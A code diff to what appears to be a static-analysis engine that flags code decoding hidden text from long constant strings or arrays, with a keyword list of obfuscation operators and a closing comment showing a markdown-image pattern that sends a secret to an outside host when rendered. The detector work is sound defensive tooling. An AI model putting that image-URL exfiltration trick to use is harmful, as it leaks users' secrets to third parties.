@@ -59,11 +59,42 @@ bool Engine::ComputesText(const Call& call) {
     computes = loops && AnyOf(text, {"^", " - ", "codePointAt", "charCodeAt", "ord(", "-0x", "% 256"});
   }
   // What a parameter brings is known to be a constant where the function is called.
-  if (computes && call.all.params != 0) {
-    here().computes |= call.all.params;
-    return false;
+  if (!computes) return false;
+  if (StandsOnConstant(origin)) return true;
+  here().computes |= call.all.params | ParamsWithin(origin);
+  return false;
+}
+
+// Parameters that the names in an expression come from, whatever is done to them.
+std::uint32_t Engine::ParamsWithin(ExprId expr) {
+  std::uint32_t params = 0;
+  std::vector<ExprId> open{expr};
+  for (std::size_t i = 0; i < open.size() && i < 64; ++i) {
+    if (open[i] >= code().exprs.size()) continue;
+    const Expr& part = code().exprs[open[i]];
+    if (part.kind == ExprKind::kName) params |= Eval(open[i]).params;
+    if (part.kind == ExprKind::kFunction) continue;
+    if (part.base != kNone) open.push_back(part.base);
+    for (const Arg& arg : code().ArgsOf(part)) open.push_back(arg.value);
   }
-  return computes;
+  return params;
+}
+
+// Some part of the expression is a constant long enough to hide a text in.
+bool Engine::StandsOnConstant(ExprId expr) const {
+  std::vector<ExprId> open{expr};
+  for (std::size_t i = 0; i < open.size() && i < 64; ++i) {
+    if (open[i] >= code().exprs.size()) continue;
+    const ExprId origin = view().Origin(open[i], function_);
+    if (origin >= code().exprs.size()) continue;
+    const Expr& part = code().exprs[origin];
+    if (part.kind == ExprKind::kList && part.arg_count >= 8) return true;
+    if (part.kind == ExprKind::kString && part.text.size() >= 8) return true;
+    if (part.kind == ExprKind::kFunction) continue;
+    if (part.base != kNone) open.push_back(part.base);
+    for (const Arg& arg : code().ArgsOf(part)) open.push_back(arg.value);
+  }
+  return false;
 }
 
 // ![x](https://host/p.png?d={secret}): whoever shows the text asks the host for the picture.
